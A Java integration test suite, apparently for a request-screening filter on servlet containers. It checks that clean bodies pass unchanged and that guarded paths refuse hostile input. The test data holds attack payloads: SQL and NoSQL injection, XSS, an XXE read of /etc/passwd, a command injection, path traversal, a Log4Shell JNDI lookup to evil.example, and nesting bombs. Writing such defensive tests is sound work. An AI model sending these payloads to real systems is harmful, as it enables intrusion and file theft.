package io.gatehouse.demo.containers;

import static io.gatehouse.demo.containers.RawExchange.post;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.AfterParameterizedClassInvocation;
import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Bodies that are screened before the application finds them whole, on each container. */
@ParameterizedClass(name = "{0}")
@EnumSource(Distribution.class)
class ScreeningIT {
    private static final String CLOSE = "Connection: close";
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String PARTS = "multipart/form-data; boundary=oars";
    private static final String[] GUARDED = {"/screened", "/alone"};

    @Parameter
    @SuppressWarnings("UnusedVariable") // The class has to take what it is run with.
    private Distribution distribution;

    private static ContainerServer server;

    @BeforeParameterizedClassInvocation
    static void start(Distribution distribution) throws Exception {
        server = ContainerServer.startWith(distribution, Distribution.Odd.REFUSED, new ScreeningApplications());
    }

    @AfterParameterizedClassInvocation
    static void stop() throws Exception {
        server.close();
    }

    private static RawExchange asked(String sent) throws IOException {
        try (RawExchange exchange = new RawExchange(server.port())) {
            exchange.send(sent);
            return exchange.readToEnd();
        }
    }

    private static String declared(String target, String body, String... lines) {
        String[] all = new String[lines.length + 2];
        System.arraycopy(lines, 0, all, 0, lines.length);
        all[lines.length] = "Content-Length: " + body.getBytes(StandardCharsets.ISO_8859_1).length;
        all[lines.length + 1] = CLOSE;
        return post(target, all) + body;
    }

    private static String chunked(String target, String body, String type) {
        return post(target, "Content-Type: " + type, "Transfer-Encoding: chunked", CLOSE)
                + Integer.toHexString(body.length()) + "\r\n" + body + "\r\n0\r\n\r\n";
    }

    private static String page(RawExchange answered) {
        return answered.text().substring(answered.text().indexOf("\r\n\r\n") + 4);
    }

    private static String parts(String... fields) {
        StringBuilder body = new StringBuilder();
        for (String field : fields) {
            body.append("--oars\r\nContent-Disposition: form-data; ")
                    .append(field)
                    .append("\r\n");
        }
        return body + "--oars--\r\n";
    }

    private static String field(String name, String value) {
        return "name=\"" + name + "\"\r\n\r\n" + value;
    }

    @ParameterizedTest(name = "{0} {1} {2}")
    @CsvSource(delimiter = '|', textBlock = """
            parameters             | application/x-www-form-urlencoded                | a=1&b=2&a=3
            parameters             | application/x-www-form-urlencoded                | a=%C3%A9+%41&b
            parameters             | application/x-www-form-urlencoded; charset=UTF-8 | a=%C3%A9&q=9
            parameters             | application/x-www-form-urlencoded;charset=ISO-8859-1 | a=%E9
            parameters             | application/json                                 | {"a":1}
            parameters-in-utf8     | application/x-www-form-urlencoded                | a=%C3%A9
            stream                 | application/x-www-form-urlencoded                | a=1&b=2
            stream                 | application/json                                 | {"a": [1, "x"]}
            stream                 | application/xml                                  | <a>b</a>
            stream                 | application/octet-stream                         | bytes
            stream                 | image/png                                        | bytes
            text                   | text/plain;charset=UTF-8                         | \u00c3\u00a9
            text                   | text/plain;charset=ISO-8859-1                    | \u00e9
            text                   | application/json                                 | "\u00c3\u00a9"
            stream-then-parameters | application/x-www-form-urlencoded                | a=1
            parameters-then-stream | application/x-www-form-urlencoded                | a=1
            parameters-then-stream | text/plain                                       | a=1
            listener               | application/json                                 | {"a": "some bytes"}
            other                  | application/x-www-form-urlencoded                | a=1
            tolerant               | application/x-www-form-urlencoded                | a=1
            """)
    void applicationGetsWhatTheContainerGives(String way, String type, String body) throws Exception {
        String target = "/probe/" + way + "?q=1";
        RawExchange bare = asked(declared("/bare" + target, body, "Content-Type: " + type));

        assertThat(bare.status()).isEqualTo(200);
        for (String context : GUARDED) {
            RawExchange whole = asked(declared(context + target, body, "Content-Type: " + type));
            assertThat(page(whole)).as(context).isEqualTo(page(bare));
            RawExchange streamed = asked(chunked(context + target, body, type));
            assertThat(page(streamed))
                    .as(context + " chunked")
                    .isEqualTo(page(asked(chunked("/bare" + target, body, type))));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"parameters", "parameters-in-utf8", "parts", "other"})
    void partsAreThoseOfTheContainer(String way) throws Exception {
        String body =
                parts(field("a", "one"), field("b", "two\r\nlines"), "name=\"f\"; filename=\"x.txt\"\r\n\r\nhello");
        String target = "/probe/" + way + "?q=1";
        RawExchange bare = asked(declared("/bare" + target, body, "Content-Type: " + PARTS));

        assertThat(bare.status()).isEqualTo(200);
        for (String context : GUARDED) {
            assertThat(page(asked(declared(context + target, body, "Content-Type: " + PARTS))))
                    .as(context)
                    .isEqualTo(page(bare));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"stream", "parameters", "listener"})
    void bodyThatWentToAFileIsReadWhole(String way) throws Exception {
        String body = "a=" + "rowing ".repeat(20_000).replace(' ', '+');
        RawExchange bare = asked(declared("/bare/probe/" + way, body, "Content-Type: " + FORM));

        for (String context : GUARDED) {
            assertThat(page(asked(declared(context + "/probe/" + way, body, "Content-Type: " + FORM))))
                    .as(context)
                    .isEqualTo(page(bare));
        }
    }

    @Test
    void clientThatAsksFirstIsToldToGoOn() throws Exception {
        for (String context : GUARDED) {
            try (RawExchange exchange = new RawExchange(server.port())) {
                exchange.send(post(
                        context + "/probe/parameters",
                        "Content-Type: " + FORM,
                        "Content-Length: 3",
                        "Expect: 100-continue",
                        CLOSE));
                exchange.send("a=1");

                assertThat(exchange.readToEnd().text()).contains("a=1");
            }
        }
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(delimiter = '|', textBlock = """
            application/x-www-form-urlencoded | a=1%27+union+select+name+from+member--
            application/x-www-form-urlencoded | 1%27+or+1%3D1--=a
            application/json                  | {"a":"<script>alert(1)</script>"}
            application/json                  | {"a":{"$ne":null}}
            text/plain                        | {"a":"<script>alert(1)</script>"}
            application/xml                   | <a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>
            application/xml                   | <!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>
            text/plain                        | ; cat /etc/passwd
            application/octet-stream          | {"a":"<script>alert(1)</script>"}
            """)
    void attackInABodyReachesTheApplicationOnlyWithoutTheStack(String type, String body) throws Exception {
        assertThat(asked(declared("/bare/probe/stream", body, "Content-Type: " + type))
                        .status())
                .isEqualTo(200);
        for (String context : GUARDED) {
            RawExchange refused = asked(declared(context + "/probe/stream", body, "Content-Type: " + type));
            assertThat(refused.status()).as(context).isEqualTo(403);
            assertThat(refused.text()).contains("\"code\":\"screening.");
            assertThat(asked(chunked(context + "/probe/stream", body, type)).status())
                    .isEqualTo(403);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name=\"a\"\r\n\r\n<script>alert(1)</script>",
                "name=\"f\"; filename=\"../../x.jsp\"\r\n\r\nx",
                "name=\"' or 1=1--\"\r\n\r\nx"
            })
    void attackInAPartReachesTheApplicationOnlyWithoutTheStack(String field) throws Exception {
        String body = parts(field);

        assertThat(asked(declared("/bare/probe/parts", body, "Content-Type: " + PARTS))
                        .status())
                .isEqualTo(200);
        for (String context : GUARDED) {
            assertThat(asked(declared(context + "/probe/parts", body, "Content-Type: " + PARTS))
                            .status())
                    .as(context)
                    .isEqualTo(403);
        }
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(delimiter = '|', textBlock = """
            /probe/stream?a=1%27+or+1%3D1--      | Accept: a/b
            /probe/stream?a=%c0%a7%20or%201%3d1--| Accept: a/b
            /probe/stream                        | Cookie: a=1'%20or%201=1--
            /probe/stream                        | User-Agent: ${jndi:ldap://evil.example/a}
            /probe/stream                        | X-Name: <script>alert(1)</script>
            """)
    void attackInTheHeadIsRefused(String target, String header) throws Exception {
        assertThat(asked(declared("/bare" + target, "", header)).status()).isEqualTo(200);
        for (String context : GUARDED) {
            assertThat(asked(declared(context + target, "", header)).status())
                    .as(context)
                    .isEqualTo(403);
        }
    }

    @Test
    void compressedAttackIsRefused() throws Exception {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write("{\"a\":\"<script>alert(1)</script>\"}".getBytes(StandardCharsets.US_ASCII));
        }
        String body = packed.toString(StandardCharsets.ISO_8859_1);

        assertThat(asked(declared(
                                "/bare/probe/stream", body, "Content-Type: application/json", "Content-Encoding: gzip"))
                        .status())
                .isEqualTo(200);
        for (String context : GUARDED) {
            assertThat(asked(declared(
                                    context + "/probe/stream",
                                    body,
                                    "Content-Type: application/json",
                                    "Content-Encoding: gzip"))
                            .status())
                    .as(context)
                    .isEqualTo(403);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            application/json | [ | 100000
            application/xml  | <a> | 100000
            application/x-www-form-urlencoded | a=b& | 100000
            """)
    void bombIsRefused(String type, String piece, int times) throws Exception {
        for (String context : GUARDED) {
            RawExchange refused =
                    asked(declared(context + "/probe/stream", piece.repeat(times), "Content-Type: " + type));

            assertThat(refused.status()).as(context).isIn(400, 413);
        }
    }
}
